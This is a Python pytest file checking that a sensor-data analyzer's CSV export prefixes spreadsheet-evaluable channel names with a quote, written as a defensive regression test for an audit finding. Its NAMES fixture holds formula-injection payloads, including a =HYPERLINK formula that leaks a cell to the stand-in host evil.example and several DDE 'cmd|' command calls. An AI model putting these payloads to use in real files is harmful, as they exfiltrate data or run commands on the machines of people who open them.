"""The CSV files we write never hold a cell a spreadsheet evaluates: a channel name that
begins with ``= + - @``, a tab or a carriage return is written with a ``'`` in front in
``export``'s header and in ``run --corrected``'s ``corrected.csv`` (a security audit,
ux63 item H2: its gen_formula.py's names reached both headers as they were, among them
``=HYPERLINK(...)`` and ``cmd|`` DDE calls); numbers stay numbers."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import numpy as np
import pytest
from cli_helpers import run_cli

from analyzer.outdir import spreadsheet_safe
from analyzer.simulate import inject_fault, simulate_building

NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&B3,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-x",
    "s4",
]
"""gen_formula.py's names (the first four), a harmless name that starts with ``-`` (it
reads ``'-x``) and a plain one. (A CSV reader strips a header's tab: a tab-led name is
checked below, on :func:`spreadsheet_safe`.)"""
RATE = 200.0


@pytest.fixture(scope="module")
def formula_csv(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """gen_formula.py's file: a building whose channels have those names, the first with
    an offset from 36 s (so ``--corrected`` corrects it); 60 s at 200 Hz, stamped in UTC
    (``--utc`` writes a text column of times)."""
    t, y, _ = simulate_building(6, 60.0, RATE, seed=3)
    y[:, 0] = inject_fault(y[:, 0], RATE, "additive", 36.0, 3 * y[:, 0].std())
    stamps = np.datetime64("2026-03-02T14:00:00", "ns") + np.round(t * 1e9).astype("m8[ns]")
    path = tmp_path_factory.mktemp("formula") / "formula.csv"
    with path.open("w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["time", *NAMES])
        for i in range(len(t)):
            w.writerow([f"{stamps[i]}Z", *(f"{v:.6g}" for v in y[i])])
    return path


def _rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _number(cell: str) -> bool:
    """A cell a spreadsheet reads as a number (``-1.5``: no formula)."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _check(rows: list[list[str]], header: list[str]) -> None:
    """The header as expected, no text cell a spreadsheet evaluates, and the data cells
    numbers as written (a negative one not prefixed)."""
    assert rows[0] == header
    assert not [c for row in rows for c in row if c.startswith(FORMULA) and not _number(c)]
    negative = [c for row in rows[1:] for c in row[1:] if c.startswith("'-")]
    assert not negative
    values = np.array([[float(c) for c in row[1:7]] for row in rows[1:]])
    assert np.isfinite(values).all() and (values < 0).any()


def test_export_writes_formula_names_as_text(formula_csv, tmp_path, capsys):
    out = tmp_path / "x.csv"
    code, _, err = run_cli(["export", formula_csv, "--out", out, "--utc"], capsys)
    assert code == 0, err
    rows = _rows(out)
    _check(rows, ["time", *["'" + n for n in NAMES[:5]], "s4", "utc"])
    # the cells below the header are the readings as read, negative ones as numbers
    src = _rows(formula_csv)
    assert [float(c) for c in rows[1][1:7]] == [float(c) for c in src[1][1:7]]
    assert rows[1][0] == "0" and rows[1][7].startswith("2026-03-02T14:00:00")


def test_corrected_csv_writes_formula_names_as_text(formula_csv, tmp_path, capsys):
    out = tmp_path / "o"
    code, _, err = run_cli(["run", formula_csv, "--out", out, "--corrected"], capsys)
    assert code == 1, err
    doc = json.loads((out / "findings.json").read_text())
    assert [f["channel"] for f in doc["faults"]] == [NAMES[0]]  # the names themselves
    rows = _rows(out / "corrected.csv")
    _check(rows, ["time", *["'" + n for n in NAMES[:5]], "s4"])
    # a later run into the folder without --corrected knows the file as this run's
    code, _, err = run_cli(["run", formula_csv, "--out", out], capsys)
    assert code == 1, err
    assert not (out / "corrected.csv").exists()
    assert "removed" in err and "an earlier run's corrected signals" in err


@pytest.mark.parametrize(
    ("name", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-x", "'-x"),
        ("-1.5", "'-1.5"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("x=1", "x=1"),
        ("s0", "s0"),
        ("'=x", "'=x"),
        (" =x", " =x"),
        ("", ""),
    ],
)
def test_only_names_a_spreadsheet_would_evaluate_are_prefixed(name, written):
    assert spreadsheet_safe(name) == written
